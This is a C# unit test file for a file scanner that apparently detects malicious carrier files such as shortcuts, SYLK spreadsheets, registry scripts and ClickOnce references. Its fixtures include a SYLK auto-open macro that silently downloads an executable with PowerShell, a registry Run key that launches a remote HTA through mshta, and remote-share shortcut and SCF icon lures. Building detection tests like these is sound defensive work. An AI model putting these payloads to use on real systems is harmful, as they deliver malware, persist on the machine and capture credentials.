using System.Text;
using Crible.Model;

namespace Crible.Tests.Scanners.Executables;

public sealed class CarrierScannerTests
{
    [Fact]
    public async Task The_strelka_web_query_is_identified_and_flagged_with_its_url()
    {
        var report = await TestEngine.Default.AnalyseFileAsync(TestPaths.Corpus("strelka-fixtures", "test.iqy"));

        var root = report.Nodes[0];
        Assert.Equal("iqy", root.Kind);
        Assert.Contains(root.Findings, f => f.Id == "web-query" && f.Severity == Severity.Suspicious && f.Evidence!.StartsWith("https://github.com/target/strelka", StringComparison.Ordinal));
        Assert.Contains(root.Iocs, i => i.Kind == IndicatorKind.Url && i.Value.StartsWith("https://github.com/target/strelka", StringComparison.Ordinal));
    }

    [Fact]
    public async Task The_strelka_jnlp_is_flagged_for_its_remote_jar_with_all_permissions()
    {
        var report = await TestEngine.Default.AnalyseFileAsync(TestPaths.Corpus("strelka-fixtures", "test.jnlp"));

        var root = report.Nodes[0];
        Assert.Equal("jnlp", root.Kind);
        var finding = Assert.Single(root.Findings, f => f.Id == "remote-jar");
        Assert.Equal(Severity.Suspicious, finding.Severity);
        Assert.Contains("https://example.com/uplib.jar", finding.Evidence, StringComparison.Ordinal);
        Assert.Contains("all permissions", finding.Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_internet_shortcut_to_a_program_on_a_remote_share_is_malicious()
    {
        var url = Encoding.ASCII.GetBytes("[InternetShortcut]\r\nURL=file://198.51.100.4/share/invoice.exe\r\nIconFile=\\\\198.51.100.4\\share\\icon.ico\r\nIconIndex=0\r\n");

        var report = await TestEngine.Default.AnalyseAsync(url, "invoice.url");

        Assert.Equal("internet-shortcut", report.Nodes[0].Kind);
        Assert.Equal(Verdict.Malicious, report.Verdict);
        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "remote-file-target" && f.Attack.Contains("T1204.002"));
        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "remote-icon" && f.Attack.Contains("T1187"));
    }

    [Fact]
    public async Task An_internet_shortcut_to_a_web_page_is_clean()
    {
        var url = Encoding.ASCII.GetBytes("[InternetShortcut]\r\nURL=https://www.example.org/\r\n");

        var report = await TestEngine.Default.AnalyseAsync(url, "site.url");

        Assert.Equal(Verdict.Clean, report.Verdict);
        Assert.Contains(report.Nodes[0].Iocs, i => i.Kind == IndicatorKind.Url && i.Value == "https://www.example.org/");
    }

    [Fact]
    public async Task An_scf_file_with_a_remote_icon_is_suspicious()
    {
        var scf = Encoding.ASCII.GetBytes("[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.9\\share\\x.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n");

        var report = await TestEngine.Default.AnalyseAsync(scf, "@folder.scf");

        Assert.Equal("scf", report.Nodes[0].Kind);
        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "remote-icon" && f.Severity == Severity.Suspicious);
    }

    [Fact]
    public async Task A_search_connector_to_a_webdav_share_is_suspicious()
    {
        var xml = Encoding.UTF8.GetBytes("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<searchConnectorDescription xmlns=\"http://schemas.microsoft.com/windows/2009/searchConnector\">\n<simpleLocation><url>https://files.example.net@SSL/DavWWWRoot/invoices</url></simpleLocation>\n</searchConnectorDescription>\n");

        var report = await TestEngine.Default.AnalyseAsync(xml, "Invoices.searchConnector-ms");

        Assert.Equal("search-connector", report.Nodes[0].Kind);
        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "remote-location" && f.Severity == Severity.Suspicious);
    }

    [Fact]
    public async Task A_sylk_file_with_an_exec_macro_is_malicious()
    {
        var slk = Encoding.ASCII.GetBytes("ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1\r\nC;X1;Y101;K0;EEXEC(\"cmd /c powershell -w hidden iwr http://203.0.113.5/p.exe -o p.exe\")\r\nC;X1;Y102;K0;EHALT()\r\nE\r\n");

        var report = await TestEngine.Default.AnalyseAsync(slk, "orders.slk");

        Assert.Equal("slk", report.Nodes[0].Kind);
        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "xlm-macro" && f.Severity == Severity.Malicious);
        Assert.Contains(report.Nodes[0].Iocs, i => i.Kind == IndicatorKind.Url && i.Value == "http://203.0.113.5/p.exe");
    }

    [Fact]
    public async Task A_registry_script_with_a_run_key_is_persistence_and_a_downloading_one_malicious()
    {
        var benignish = Encoding.ASCII.GetBytes("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"Updater\"=\"C:\\\\Program Files\\\\Vendor\\\\update.exe\"\r\n");
        var hostile = Encoding.ASCII.GetBytes("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"Updater\"=\"mshta.exe http://203.0.113.8/run.hta\"\r\n");

        var persistence = await TestEngine.Default.AnalyseAsync(benignish, "vendor.reg");
        var dropper = await TestEngine.Default.AnalyseAsync(hostile, "fix.reg");

        Assert.Equal("reg", persistence.Nodes[0].Kind);
        Assert.Contains(persistence.Nodes[0].Findings, f => f.Id == "persistence" && f.Severity == Severity.Suspicious && f.Attack.Contains("T1547.001"));
        Assert.Contains(persistence.Nodes[0].Iocs, i => i.Kind == IndicatorKind.Registry && i.Value.EndsWith(@"CurrentVersion\Run", StringComparison.Ordinal));
        Assert.Equal(Verdict.Malicious, dropper.Verdict);
        Assert.Contains(dropper.Nodes[0].Findings, f => f.Id == "persistence-command" && f.Attack.Contains("T1218.005"));
    }

    [Fact]
    public async Task A_clickonce_reference_to_a_remote_server_is_suspicious()
    {
        var appref = Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes("http://deploy.example.net/tool/Tool.application#Tool.application, Culture=neutral, PublicKeyToken=0000000000000000, processorArchitecture=msil")).ToArray();

        var report = await TestEngine.Default.AnalyseAsync(appref, "Tool.appref-ms");

        Assert.Equal("appref-ms", report.Nodes[0].Kind);
        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "clickonce-remote" && f.Severity == Severity.Suspicious);
    }
}
